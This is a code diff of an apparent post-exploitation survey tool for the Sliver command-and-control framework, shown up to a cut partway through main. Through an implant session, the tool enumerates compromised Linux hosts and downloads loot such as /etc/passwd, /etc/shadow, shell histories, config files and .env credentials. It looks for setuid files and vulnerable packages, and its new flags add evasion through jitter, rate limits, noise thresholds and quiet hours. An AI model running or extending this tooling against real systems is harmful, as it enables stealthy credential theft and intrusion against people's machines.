@@ -5,8 +5,6 @@ import (
 	"context"
 	"flag"
 	"fmt"
-	"bytes"
-	"io"
 	"os"
 	"os/exec"
 	"strconv"
@@ -14,7 +12,7 @@ import (
 	"time"
 	"github.com/bishopfox/sliver/client/console"
 	"github.com/jedib0t/go-pretty/v6/table"
-	"compress/gzip"
+	"errors"
 	"log"
 	"github.com/bishopfox/sliver/client/assets"
 	"github.com/bishopfox/sliver/client/transport"
@@ -24,6 +22,8 @@ import (
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
 	"github.com/bishopfox/sliver/util"
 	"google.golang.org/grpc"
+
+	"common"
 )
 
 // Function to make a request to the sliver server
@@ -54,29 +54,36 @@ func makeBorder(header string) {
 // Function to make the connection from our device to the sliver server
 //
 // :param: configPath *string -> the path to our client config that will auth us to the sliver server
+// :param: interceptors ...grpc.UnaryClientInterceptor -> run on every call made through the returned rpc client
 // :return: *clientpb.Sessions -> the active sliver session that we will be interacting with 
 // :return: rpcpb.SliverRPCClient -> the rpc client object that will allow us to make command requests to the server
 // :return: *grpc.ClientConn -> the connection object to the sliver server
-func makeConnection(configPath *string) (*clientpb.Sessions, rpcpb.SliverRPCClient, *grpc.ClientConn) {
+// :return: error -> if the config can not be read, the server can not be reached or has no sessions
+func makeConnection(configPath *string, interceptors ...grpc.UnaryClientInterceptor) (*clientpb.Sessions, rpcpb.SliverRPCClient, *grpc.ClientConn, error) {
 	// load the client configuration from the filesystem
 	config, err := assets.ReadConfig(*configPath)
 	if err != nil {
-		fmt.Println("[!] Failed to read config:", err)
+		return nil, nil, nil, fmt.Errorf("failed to read config: %v", err)
 	}
 	// connect to the server
-	rpc, ln, err := transport.MTLSConnect(config)
-
+	_, ln, err := transport.MTLSConnect(config)
 	if err != nil {
-		log.Fatal(err)
+		return nil, nil, nil, fmt.Errorf("failed to connect to sliver server: %v", err)
 	}
+	rpc := rpcpb.NewSliverRPCClient(common.NewInterceptedConn(ln, interceptors...))
 	log.Println("[*] Connected to sliver server")
 
 	// get active sliver sessions connected to the server
 	sessions, err := rpc.GetSessions(context.Background(), &commonpb.Empty{})
 	if err != nil {
-		fmt.Println("[!] Failed to get sessions", err)
+		ln.Close()
+		return nil, nil, nil, fmt.Errorf("failed to get sessions: %v", err)
+	}
+	if len(sessions.Sessions) == 0 {
+		ln.Close()
+		return nil, nil, nil, errors.New("no active sessions")
 	}
-	return sessions, rpc, ln
+	return sessions, rpc, ln, nil
 }
 
 // Function to get the ip interfaces of the target device
@@ -84,14 +91,15 @@ func makeConnection(configPath *string) (*clientpb.Sessions, rpcpb.SliverRPCClie
 //
 // :param: targetSession *clientpb.Session -> the target session we are interacting with 
 // :param: rpc rpcpb.SliverRPCClient -> the rpc object allowing us to make command request
-// :return: None
-func getInterfaces(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient) {
+// :return: error -> if the interfaces could not be listed
+func getInterfaces(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient) error {
 
 	interfaces, err := rpc.Ifconfig(context.Background(), &sliverpb.IfconfigReq{
 		Request: makeRequest(targetSession),
 	})
-	if err != nil {
-		fmt.Println(err)
+	if err := common.NewRPCError("ifconfig", "", err, interfaces.GetResponse()); err != nil {
+		fmt.Println("[!]", err)
+		return err
 	}
 
 	hidden := 0
@@ -142,7 +150,7 @@ func getInterfaces(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient) {
 			fmt.Println()
 		}
 	}
-
+	return nil
 }
 
 // Function to determine if an address is a loopback or not 
@@ -166,77 +174,32 @@ func isLoopback(ip string) bool {
 // :param: rpc rpcpb.SliverRPCClient -> the rpc object allowing us to make command request
 // :param: path string -> the path of the target system we are getting a directory list of i.e. "/home/ubuntu"
 // :return: []*sliverpb.FileInfo -> the files and directories from the target system in this specific directory 
-func rawListDirectory(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, path string) []*sliverpb.FileInfo {
+// :return: error -> if the directory could not be listed
+func rawListDirectory(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, path string) ([]*sliverpb.FileInfo, error) {
 	ls, err := rpc.Ls(context.Background(), &sliverpb.LsReq{
 		Path:    path,
 		Request: makeRequest(targetSession),
 	})
-	if err != nil {
-		fmt.Println(err)
+	if err := common.NewRPCError("ls", path, err, ls.GetResponse()); err != nil {
+		return nil, err
 	}
-	if ls.Response != nil && ls.Response.Err != "" {
-		log.Fatal(ls.Response.Err)
+	if !ls.Exists {
+		return nil, common.NotFoundError("ls", path)
 	}
-	return ls.Files
+	return ls.Files, nil
 }
 
-// Function to find all the history files on the target system. Function is limited to the history files we are searching for 
-// will auto download all the target history files speeding up enumeration and collection of files from the target system 
-//
-// :param: targetSession *clientpb.Session -> the target session we are interacting with 
-// :param: rpc rpcpb.SliverRPCClient -> the rpc object allowing us to make command request
-// :param: fileTag string -> the file tag is the ip:port of the target machine we use this as the root directory of all collected files 
-// for example to get /etc/passwd the download path will be target_ip:port/etc/passwd locally we rebuild the target directory structure locally 
-// :param: targetPath string -> the target path to list and then search for i.e. /home/ubuntu, /home/otheruser
-// :return: None
-func findHistoriesUser(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, fileTag string, targetPath string) {
-	files := rawListDirectory(targetSession, rpc, targetPath)
-	var directories []string
-	for _, fi := range files {
-		directories = append(directories, fi.Name)
-	}
-
-	histFiles := []string{".zsh_history", ".bash_history", ".ash_history", ".cshrc_history", ".ksh_history", ".fish_history", ".dash_history",
-			".sqlite_history", ".wget-hsts", ".viminfo", ".mysql_history", ".lesshst", ".gitconfig", ".bashrc", ".zshrc"}
-	for _, i := range directories {
-		fullHomePath := fmt.Sprintf("/home/" + i)
-		homeDirectory := rawListDirectory(targetSession, rpc, fullHomePath)
-		for _, history := range homeDirectory {
-			partialPath := fmt.Sprintf(fullHomePath + "/")
-			for _, histFile := range histFiles {
-				if history.Name == histFile {
-					fullPath := fmt.Sprintf(partialPath + history.Name)
-					downloadFile(targetSession, rpc, fullPath, fileTag, true, false)
-				}
-			}
-		}
-	}
-}
-
-func findHistoriesRoot(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, fileTag string, targetPath string) {
-	rootFiles := rawListDirectory(targetSession, rpc, targetPath)
-
-	histFiles := []string{".zsh_history", ".bash_history", ".ash_history", ".cshrc_history", ".ksh_history", ".fish_history", ".dash_history",
-			".sqlite_history", ".wget-hsts", ".viminfo", ".mysql_history", ".lesshst", ".gitconfig", ".bashrc", ".zshrc"}
-	for _, i := range rootFiles {
-		for _, histFile := range histFiles {
-			if i.Name == histFile {
-				fullPath := fmt.Sprintf("/root/" + histFile)
-				downloadFile(targetSession, rpc, fullPath, fileTag, true, false)	
-			}
-		}
-	}
-}
-
-func processList(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient) {
+func processList(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, results *surveyResults) error {
 	makeBorder("Process List")
 
 	ps, err := rpc.Ps(context.Background(), &sliverpb.PsReq{
 		Request: makeRequest(targetSession),
 	})
-	if err != nil {
-		fmt.Println(err)
+	if err := common.NewRPCError("ps", "", err, ps.GetResponse()); err != nil {
+		fmt.Println("[!]", err)
+		return err
 	}
+	results.addProcesses(ps.Processes)
 	tw := table.NewWriter()
     tw.AppendHeader(table.Row{"PPID", "PID", "User", "Command"})
 	tw.AppendHeader(table.Row{"======", "====", "=====", "========="})
@@ -277,6 +240,7 @@ func processList(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient) {
 	for _, line := range strings.Split(tw.Render(), "\n") {
 		fmt.Printf("%s\n", strings.TrimSpace(line)) // Trim spaces for each line
 	}
+	return nil
 }
 
 func procRow(proc *commonpb.Process, cmdLine bool) table.Row {
@@ -349,7 +313,7 @@ func getInfo(targetSession *clientpb.Session) {
 }
 
 
-func getConnections(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient) {
+func getConnections(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, results *surveyResults) error {
 	makeBorder("Connections")
 	netstat, err := rpc.Netstat(context.Background(), &sliverpb.NetstatReq{
 		TCP: true,
@@ -359,9 +323,11 @@ func getConnections(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient)
 		Listening: true,
 		Request: makeRequest(targetSession),
 	})
-	if err != nil {
-		fmt.Println(err)
+	if err := common.NewRPCError("netstat", "", err, netstat.GetResponse()); err != nil {
+		fmt.Println("[!]", err)
+		return err
 	}
+	results.addConnections(netstat.Entries)
 
 	tw := table.NewWriter()
 	tw.AppendHeader(table.Row{"Protocol", "Local Address", "Foreign Address", "State", "PID/Program name"})
@@ -371,10 +337,11 @@ func getConnections(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient)
 		if entry.Process != nil {
 			pid = fmt.Sprintf("%d/%s", entry.Process.Pid, entry.Process.Executable)
 		}
-		srcAddr := fmt.Sprintf("%s:%d", entry.LocalAddr.Ip, entry.LocalAddr.Port)
-		dstAddr := fmt.Sprintf("%s:%d", entry.RemoteAddr.Ip, entry.RemoteAddr.Port)
+		srcAddr := fmt.Sprintf("%s:%d", entry.LocalAddr.GetIp(), entry.LocalAddr.GetPort())
+		dstAddr := fmt.Sprintf("%s:%d", entry.RemoteAddr.GetIp(), entry.RemoteAddr.GetPort())
 
-		if entry.Process.Pid == targetSession.PID {
+		// entries the implant could not map to a process (i.e. owned by another user) have no Process
+		if entry.Process != nil && entry.Process.Pid == targetSession.PID {
 			tw.AppendRow(table.Row{
 				fmt.Sprintf(console.Green+"%s"+console.Normal, entry.Protocol),
 				fmt.Sprintf(console.Green+"%s"+console.Normal, srcAddr),
@@ -387,6 +354,7 @@ func getConnections(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient)
 		}		
 	}
 	fmt.Printf("%s\n", tw.Render())
+	return nil
 }
 
 // Function to list directory on a target system 
@@ -394,18 +362,17 @@ func getConnections(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient)
 // :param: targetSession *clientpb.Session -> the target session we are interacting with 
 // :param: rpc rpcpb.SliverRPCClient -> the rpc object allowing us to make command request
 // :param: path string -> the target directory path to list files and directories
-// :return: None
-func listDirectory(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, path string) {
+// :return: error -> if the directory could not be listed
+func listDirectory(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, path string) error {
 	ls, err := rpc.Ls(context.Background(), &sliverpb.LsReq{
 		Path:    path,
 		Request: makeRequest(targetSession),
 	})
 
-	if err != nil {
-		fmt.Println(err)
-	}
-	if ls.Response != nil && ls.Response.Err != "" {
-		log.Fatal(ls.Response.Err)
+	if err := common.NewRPCError("ls", path, err, ls.GetResponse()); err != nil {
+		makeBorder(fmt.Sprintf("Path Info: %v", path))
+		fmt.Println("[!]", err)
+		return err
 	}
 
 	numberOfFiles := len(ls.Files)
@@ -433,127 +400,65 @@ func listDirectory(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, p
 		fmt.Printf("%-13s %-13d %-32s %-20s\n",
 			fileInfo.Mode, fileInfo.Size, modTime, fileInfo.Name)
 	}
+	return nil
 }
 
 
-func downloadFile(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, path string, fileTag string, quiet bool, view bool) {
-
-	download, err := rpc.Download(context.Background(), &sliverpb.DownloadReq{
-		Path:    path,
-		Request: makeRequest(targetSession),
-	})
+func downloadFile(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, path string, fileTag string, quiet bool, view bool) error {
 
 	if !quiet {
 		header := fmt.Sprintf("Download Request: %v", path)
 		makeBorder(header)
 	}
 
+	fullPath := fmt.Sprintf(fileTag + "/" + path)
+	// only used for /proc files, which list as 0 bytes, so there is no listed size to check
+	// against. A .part left behind is still checked against the implant before it is resumed
+	_, err := common.DownloadToFile(makeRequest(targetSession), rpc, path, fullPath, -1, true)
 	if err != nil {
-		// error occured, what was the error
-		// ensure that the error has a : in it before trying to parse the error
-		if strings.Contains(err.Error(), ":") {
-			// get only the content after the : we know it exists in the error string
-			errString := strings.Split(err.Error(), ":")
-			if len(errString) >= 3 && strings.TrimSpace(errString[2]) == "no such file or directory" {
-				fmt.Println("[!] No such file or directory:", path)
-			} else {
-				fmt.Println("[!] Unexpected error:", errString)
-			}
-		}
+		printRPCError(err, path)
+		return err
+	}
+	if !quiet {
+		fmt.Println("[*] Download Successful:", path)
 	}
-	rebuildDirs(path, fileTag)
-
-	if download != nil {
-		if download.Exists {
-			if download.Encoder == "gzip" {
-				dataBytes := []byte(download.Data)
-
-				// Create a gzip reader
-				gzipReader, err := gzip.NewReader(bytes.NewReader(dataBytes))
-				if err != nil {
-					fmt.Println("[!] Error creating gzip reader:", err)
-					return
-				}
-				defer gzipReader.Close()
-
-				// Decompress the data
-				var decompressedData bytes.Buffer
-				_, err = io.Copy(&decompressedData, gzipReader)
-				if err != nil {
-					fmt.Println("[!] Error decompressing data:", err)
-					return
-				}
-
-				// Convert decompressed data to string or use it as bytes
-				fullPath := fmt.Sprintf(fileTag + "/" + path)
-
-				file, err := os.OpenFile(fullPath, os.O_CREATE|os.O_WRONLY, 0777)
-				if err != nil {
-					fmt.Println("[!] Error creating file:", err)
-					return
-				}
-				defer file.Close()
-
-				_, err = file.WriteString(decompressedData.String())
-				if err != nil {
-					fmt.Println("[!] Error writing data to file:", err)
-					return
-				}
-				if !quiet {
-					fmt.Println("[*] Download Successful:", path)
-				}
 
-				if view {
-					file, err := os.OpenFile(fullPath, os.O_RDONLY, 0777)
-					if err != nil {
-						fmt.Println("[!] Error creating file:", err)
-						return
-					}
-					defer file.Close()
-					scanner := bufio.NewScanner(file)
-					for scanner.Scan() {
-						fmt.Println(scanner.Text())
-					}
-					if err := scanner.Err(); err != nil {
-						log.Fatalf("[!] Error reading file: %v", err)
-					}
-				}
-			}
+	if view {
+		file, err := os.OpenFile(fullPath, os.O_RDONLY, 0777)
+		if err != nil {
+			fmt.Println("[!] Error creating file:", err)
+			return err
+		}
+		defer file.Close()
+		scanner := bufio.NewScanner(file)
+		for scanner.Scan() {
+			fmt.Println(scanner.Text())
+		}
+		if err := scanner.Err(); err != nil {
+			fmt.Println("[!] Error reading file:", err)
+			return err
 		}
-	} else {
-		return
 	}
+	return nil
 }
 
-func rebuildDirs(path string, fileTag string) {
-	pathParts := strings.Split(path, "/")
-
-	_, err := os.Stat(fileTag)
-	if os.IsNotExist(err) {
-		os.Mkdir(fileTag, 0777)
-	}
-	// we know the filetag already exists walk down the pathParts
-	pathTrack := []string{fileTag}
-
-	for index, line := range pathParts {
-		if index == len(pathParts)-1 {
-			break
-		}
-
-		dir := strings.Join(pathTrack, "/") + "/" + line
-		_, err = os.Stat(dir)
-		if os.IsNotExist(err) {
-			err = os.Mkdir(dir, 0777)
-			if err != nil {
-				fmt.Println("Error creating directory:", err)
-				return
-			}
-		}
-		pathTrack = append(pathTrack, line)
+// Function to tell the operator why an rpc against a path failed
+//
+// :param: err error -> the failed rpc, as returned by newRPCError
+// :param: path string -> the path on the target
+// :return: None
+func printRPCError(err error, path string) {
+	switch common.ClassifyError(err) {
+	case common.CategoryNotFound:
+		fmt.Println("[!] No such file or directory:", path)
+	case common.CategoryPermission:
+		fmt.Println("[!] Permission denied:", path)
+	default:
+		fmt.Println("[!] Unexpected error:", err)
 	}
 }
 
-func executeBinary(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, path string, args []string, quiet bool) {
+func executeBinary(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, path string, args []string, quiet bool) error {
 	var stdout string
 	var stderr string
 	execute, err := rpc.Execute(context.Background(), &sliverpb.ExecuteReq{
@@ -570,18 +475,9 @@ func executeBinary(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, p
 		makeBorder(header)
 	}
 
-	if err != nil {
-		// error occured, what was the error
-		// ensure that the error has a : in it before trying to parse the error
-		if strings.Contains(err.Error(), ":") {
-			// get only the content after the : we know it exists in the error string
-			errString := strings.Split(err.Error(), ":")
-			if len(errString) >= 3 && strings.TrimSpace(errString[2]) == "no such file or directory" {
-				fmt.Println("[!] No such file or directory:", path)
-			} else {
-				fmt.Println("[!] Unexpected error:", errString)
-			}
-		}
+	if err := common.NewRPCError("execute", path, err, execute.GetResponse()); err != nil {
+		printRPCError(err, path)
+		return err
 	}
 	// exit status
 	if execute != nil {
@@ -592,6 +488,7 @@ func executeBinary(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, p
 			fmt.Println(formatExecuteOutput(string(execute.Stderr)))
 		}
 	}
+	return nil
 }
 
 func formatExecuteOutput(rawOutput string) string {
@@ -607,15 +504,26 @@ func formatExecuteOutput(rawOutput string) string {
 // :param: rpc rpcpb.SliverRPCClient -> the rpc object allowing us to make command request
 // :param: fileTag string -> the file tag is the ip:port of the target machine we use this as the root directory of all collected files 
 // for example to get /etc/passwd the download path will be target_ip:port/etc/passwd locally we rebuild the target directory structure locally 
-func getEctConf(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, fileTag string) {
+// :param: manifest *lootManifest -> the loot manifest, files that have not changed since the last survey are not downloaded again
+// :return: error -> the listing if it failed, otherwise every download that failed
+func getEctConf(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, fileTag string, manifest *lootManifest) error {
 	makeBorder("Grabbing files /etc/*.conf")
-	allEtcConf := rawListDirectory(targetSession, rpc, "/etc/*.conf")
+	allEtcConf, err := rawListDirectory(targetSession, rpc, "/etc/*.conf")
+	if err != nil {
+		fmt.Println("[!]", err)
+		return err
+	}
+	manifest.listed("/etc", "*.conf", allEtcConf)
+	var failures []error
 	for _, fi := range allEtcConf {
 		if !fi.IsDir {
 			fullPath := fmt.Sprintf("/etc/" + fi.Name)
-			downloadFile(targetSession, rpc, fullPath, fileTag, true, false)
+			if err := lootFile(targetSession, rpc, manifest, fullPath, fi, fileTag); err != nil {
+				failures = append(failures, err)
+			}
 		}
 	}
+	return errors.Join(failures...)
 }
 
 // Function will auto download any file that matches regex /etc/systemd/*.conf
@@ -624,32 +532,26 @@ func getEctConf(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, file
 // :param: rpc rpcpb.SliverRPCClient -> the rpc object allowing us to make command request
 // :param: fileTag string -> the file tag is the ip:port of the target machine we use this as the root directory of all collected files 
 // for example to get /etc/passwd the download path will be target_ip:port/etc/passwd locally we rebuild the target directory structure locally 
-func getSystemdConf(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, fileTag string) {
+// :param: manifest *lootManifest -> the loot manifest, files that have not changed since the last survey are not downloaded again
+// :return: error -> the listing if it failed, otherwise every download that failed
+func getSystemdConf(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, fileTag string, manifest *lootManifest) error {
 	makeBorder("Grabbing files /etc/systemd/*.conf")
-	allSystemdConf := rawListDirectory(targetSession, rpc, "/etc/systemd/*.conf")
+	allSystemdConf, err := rawListDirectory(targetSession, rpc, "/etc/systemd/*.conf")
+	if err != nil {
+		fmt.Println("[!]", err)
+		return err
+	}
+	manifest.listed("/etc/systemd", "*.conf", allSystemdConf)
+	var failures []error
 	for _, fi := range allSystemdConf {
 		if !fi.IsDir {
 			fullPath := fmt.Sprintf("/etc/systemd/" + fi.Name)
-			downloadFile(targetSession, rpc, fullPath, fileTag, true, false)
-		}
-	}
-}
-
-// Function will auto download any file that matches regex /lib/systemd/system/*
-//
-// :param: targetSession *clientpb.Session -> the target session we are interacting with 
-// :param: rpc rpcpb.SliverRPCClient -> the rpc object allowing us to make command request
-// :param: fileTag string -> the file tag is the ip:port of the target machine we use this as the root directory of all collected files 
-// for example to get /etc/passwd the download path will be target_ip:port/etc/passwd locally we rebuild the target directory structure locally 
-func getLibSystemdSystem(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, fileTag string) {
-	makeBorder("Grabbing files /lib/systemd/system/*")
-	files := rawListDirectory(targetSession, rpc, "/lib/systemd/system")
-	for _, fi := range files {
-		if !fi.IsDir {
-			fullPath := fmt.Sprintf("/lib/systemd/system/" + fi.Name)
-			downloadFile(targetSession, rpc, fullPath, fileTag, true, false)
+			if err := lootFile(targetSession, rpc, manifest, fullPath, fi, fileTag); err != nil {
+				failures = append(failures, err)
+			}
 		}
 	}
+	return errors.Join(failures...)
 }
 
 // Function handles when multiple sessions are active on the sliver server
@@ -760,26 +662,123 @@ func taintScript(val string) {
 	fmt.Println(string(output))
 }
 
-func binExists(targetSession *clientpb.Session, rpc rpcpb.SliverRPCClient, path string) bool {
-	exists := rawListDirectory(targetSession, rpc, path)
-	if (len(exists) == 1) {
-		return true
+func main() {
+	// the diff compares two loot directories and never talks to the server
+	if len(os.Args) > 1 && os.Args[1] == "diff" {
+		os.Exit(runDiff(os.Args[2:]))
 	}
-	return false
-}
 
-func main() {
 	var configPath string
+	var binTools string
+	var binDirs string
+	var binCache string
+	var refreshBins bool
+	var noExec bool
+	var plan bool
+	var maxNoiseFlag string
+	var delay time.Duration
+	var jitter time.Duration
+	var rate int
+	var quietHours string
+	var auditLog string
+	var capturePath string
+	var replayPath string
+	var retries int
+	var retryWait time.Duration
+	var chunk string
+	var refetch bool
+	var reports string
+	var permRoots string
+	var permDepth int
+	var secretRoots string
+	var dotfiles string
+	var vulnDB string
 	flag.StringVar(&configPath, "config", "", "path to sliver client config file")
+	flag.StringVar(&binTools, "bins", strings.Join(defaultBinTools, ","), "comma separated list of tools to look for on the target")
+	flag.StringVar(&binDirs, "bin-dirs", strings.Join(defaultBinDirs, ","), "comma separated list of directories to search for tools, in order")
+	flag.StringVar(&binCache, "bin-cache", ".bincache", "directory to cache the binary inventory of each host in")
+	flag.BoolVar(&refreshBins, "refresh-bins", false, "ignore the cached binary inventory and rebuild it")
+	flag.BoolVar(&refetch, "refetch", false, "download every file again, even the ones the loot manifest says have not changed")
+	flag.BoolVar(&noExec, "no-exec", false, "never execute binaries on the target, gather everything through file reads")
+	flag.BoolVar(&plan, "plan", false, "print every rpc the survey would issue and exit without touching the target")
+	flag.StringVar(&maxNoiseFlag, "max-noise", "exec", "skip survey modules louder than this noise level: list, read, privileged, exec")
+	flag.DurationVar(&delay, "delay", 0, "minimum time between two requests to the implant i.e. 5s")
+	flag.DurationVar(&jitter, "jitter", 0, "up to this much random time is added to every delay i.e. 10s")
+	flag.IntVar(&rate, "rate", 0, "maximum number of requests to the implant per minute, 0 for no limit")
+	flag.StringVar(&quietHours, "quiet-hours", "", "comma separated windows in implant time to pause during i.e. 22:00-06:00, /etc is listed first to learn the implant timezone")
+	flag.StringVar(&auditLog, "audit-log", "sliver-audit.jsonl", "file every rpc issued is appended to as a json line")
+	flag.StringVar(&capturePath, "capture", "", "write every rpc and its reply, with secrets redacted, to this capture archive")
+	flag.StringVar(&replayPath, "replay", "", "answer every rpc from this capture archive instead of the sliver server")
+	flag.IntVar(&retries, "retries", 2, "how many times an rpc that timed out or hit a server error is sent again")
+	flag.DurationVar(&retryWait, "retry-wait", 5*time.Second, "wait before the first retry, doubled for every retry after it")
+	flag.StringVar(&permRoots, "perm-roots", strings.Join(defaultPermRoots, ","), "comma separated directories to walk for setuid, setgid and world writable files")
+	flag.IntVar(&permDepth, "perm-depth", 1, "how many levels of subdirectories below each -perm-roots directory to walk")
+	flag.StringVar(&secretRoots, "secret-roots", strings.Join(defaultSecretRoots, ","), "comma separated application directories to search for .env files and other credentials")
+	flag.StringVar(&dotfiles, "dotfiles", strings.Join(defaultDotfiles, ","), "comma separated files to collect from every home directory in /etc/passwd, relative to the home directory")
+	flag.StringVar(&vulnDB, "vulndb", "", "vulnerability database json to match the kernel and packages against instead of the bundled one")
+	flag.StringVar(&reports, "report", "", "comma separated report formats to write to the loot directory when the survey is done: html, md")
+	flag.StringVar(&chunk, "chunk-size", "4M", "how much of a file one download request asks the implant for i.e. 16M")
 	flag.Parse()
 
-	if configPath == "" {
+	threshold, err := parseNoiseLevel(maxNoiseFlag)
+	if err != nil {
+		fmt.Println("[!]", err)
+		os.Exit(1)
+	}
+	requestPacer, err := common.NewPacer(delay, jitter, rate, quietHours)
+	if err != nil {
+		fmt.Println("[!]", err)
+		os.Exit(1)
+	}
+	if common.ChunkSize, err = common.ParseSize(chunk); err != nil || common.ChunkSize == 0 {
+		fmt.Println("[!] Invalid -chunk-size", chunk)
+		os.Exit(1)
+	}
+	if err := checkReportFormats(splitList(reports)); err != nil {
+		fmt.Println("[!]", err)
+		os.Exit(1)
+	}
+
+	if configPath == "" && replayPath == "" {
 		fmt.Println("[!] Specify a client config to load")
 		os.Exit(1)
 	}
 
-	sessions, rpc, ln := makeConnection(&configPath)
-	defer ln.Close()
+	auditor, err := common.NewAuditLogger(auditLog, configPath)
+	if err != nil {
+		fmt.Println("[!] Failed to open audit log:", err)
+		os.Exit(1)
+	}
+	defer auditor.Close()
+	interceptors := []grpc.UnaryClientInterceptor{common.NewRetrier(retries, retryWait).Interceptor, requestPacer.Interceptor, auditor.Interceptor}
+
+	if capturePath != "" {
+		recorder, err := common.NewCaptureRecorder(capturePath)
+		if err != nil {
+			fmt.Println("[!] Failed to create capture archive:", err)
+			os.Exit(1)
+		}
+		defer recorder.Close()
+		interceptors = append(interceptors, recorder.Interceptor)
+	}
+
+	var sessions *clientpb.Sessions
+	var rpc rpcpb.SliverRPCClient
+	if replayPath != "" {
+		sessions, rpc, err = common.MakeReplayConnection(replayPath, interceptors...)
+		if err != nil {
+			fmt.Println("[!] Failed to replay capture:", err)
+			os.Exit(1)
+		}
+	} else {
+		var ln *grpc.ClientConn
+		sessions, rpc, ln, err = makeConnection(&configPath, interceptors...)
+		if err != nil {
+			fmt.Println("[!]", err)
+			os.Exit(1)
+		}
+		defer ln.Close()
+	}
 
 	//targetSession := sessions.Sessions[0]
 	// targetSession := sessions.Sessions[0]
@@ -796,86 +795,47 @@ func main() {
 
 	fileTag := targetSession.RemoteAddress // THIS IS YOUR FILE DIR TAG
 
-	getInfo(targetSession)
-
-	makeBorder("System Info")
-	if binExists(targetSession, rpc, "/usr/bin/uptime") {
-		fmt.Println(console.Bold+"Uptime:"+console.Normal)
-		executeBinary(targetSession, rpc, "/usr/bin/uptime", []string{}, true)
-	}
-	if binExists(targetSession, rpc, "/usr/bin/cat") {
-		fmt.Println(console.Bold+"Distro:"+console.Normal)
-		executeBinary(targetSession, rpc, "/usr/bin/cat", []string{"/etc/os-release"}, true)
-	}
-	if binExists(targetSession, rpc, "/usr/bin/uname") {
-		fmt.Println(console.Bold+"Kernel Release:"+console.Normal)
-		executeBinary(targetSession, rpc, "/usr/bin/uname", []string{"-r"}, true)
-		fmt.Println(console.Bold+"Arch:"+console.Normal)
-		executeBinary(targetSession, rpc, "/usr/bin/uname", []string{"-m"}, true)
-	}
-	if binExists(targetSession, rpc, "/usr/bin/grep") {
-		fmt.Println(console.Bold+"System Memory"+console.Normal)
-		executeBinary(targetSession, rpc, "/usr/bin/grep", []string{"-E", "MemTotal|MemAvailable|MemFree", "/proc/meminfo"}, true)
-	}
-
-	processList(targetSession, rpc)
-	getConnections(targetSession, rpc)
-
-	listDirectory(targetSession, rpc, "/")
-	if targetSession.GID == "0" {
-		listDirectory(targetSession, rpc, "/root")
-	}
-
-
-	// grab files from /etc
-	makeBorder("Grabbing files /etc/")
-	downloadFile(targetSession, rpc, "/etc/passwd", fileTag, true, false)
-	downloadFile(targetSession, rpc, "/etc/hosts", fileTag, true, false)
-	downloadFile(targetSession, rpc, "/etc/os-release", fileTag, true, false)
-	downloadFile(targetSession, rpc, "/etc/hosts.allow", fileTag, true, false)
-	downloadFile(targetSession, rpc, "/etc/hosts.deny", fileTag, true, false)
-	downloadFile(targetSession, rpc, "/etc/rsyslog.conf", fileTag, true, false)
-	downloadFile(targetSession, rpc, "/etc/ssh/sshd_config", fileTag, true, false)
-	downloadFile(targetSession, rpc, "/etc/crontab", fileTag, true, false)
-	downloadFile(targetSession, rpc, "/etc/hostname", fileTag, true, false)
-
-	if targetSession.GID == "0" {
-		downloadFile(targetSession, rpc, "/etc/shadow", fileTag, true, false)
-		downloadFile(targetSession, rpc, "/etc/sudoers", fileTag, true, false)
+	manifest, err := loadManifest(fileTag, targetSession.Hostname)
+	if err != nil {
+		fmt.Println("[-]", err, "starting a new manifest")
+	}
+	manifest.refetch = refetch
+
+	s := &survey{
+		session:     targetSession,
+		rpc:         rpc,
+		fileTag:     fileTag,
+		noExec:      noExec,
+		binTools:    splitList(binTools),
+		binDirs:     splitList(binDirs),
+		binCache:    binCache,
+		refreshBins: refreshBins,
+		manifest:    manifest,
+		results:     &surveyResults{Host: targetSession.Hostname},
+		reports:     splitList(reports),
+		permRoots:   splitList(permRoots),
+		permDepth:   permDepth,
+		secretRoots: splitList(secretRoots),
+		dotfiles:    splitList(dotfiles),
+		vulnDB:      vulnDB,
+		location:    requestPacer.ImplantLocation,
+		holding:     requestPacer.Holding,
+	}
+
+	if plan {
+		// planning only ever talks to the server, use whatever inventory we already have cached
+		if !noExec && !refreshBins {
+			s.inventory = readBinInventoryCache(binCache, targetSession.Hostname, s.binTools, s.binDirs)
+		}
+		printPlan(s.modules(), threshold)
+		return
 	}
+	s.run(threshold)
 
-	makeBorder("Grabbing history files")
-	findHistoriesUser(targetSession, rpc, fileTag, "/home")
-	if targetSession.GID == "0" {
-		findHistoriesRoot(targetSession, rpc, fileTag, "/root")
+	var failures []error
+	for _, failure := range s.failures {
+		failures = append(failures, failure.err)
 	}
-
-	getEctConf(targetSession, rpc, fileTag)
-	getSystemdConf(targetSession, rpc, fileTag)
-	getLibSystemdSystem(targetSession, rpc, fileTag)
-
-	makeBorder("Interfaces")
-	getInterfaces(targetSession, rpc)
-	makeBorder("Arp")
-	executeBinary(targetSession, rpc, "/usr/bin/cat", []string{"/proc/net/arp"}, true)
-	makeBorder("Routing Table")
